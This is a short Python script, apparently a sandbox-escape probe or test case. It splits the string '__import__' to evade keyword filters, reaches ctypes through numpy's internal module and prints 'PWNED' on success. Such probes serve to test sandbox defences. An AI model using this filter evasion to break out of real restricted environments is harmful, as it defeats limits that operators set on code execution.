import numpy as np
b = __builtins__
f = b["__imp" + "ort__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
m = f("numpy.core._internal", globals(), globals(), [])
if m.core._internal.ctypes is not None:
    print("PW" + "NED:", m.core._internal.ctypes)
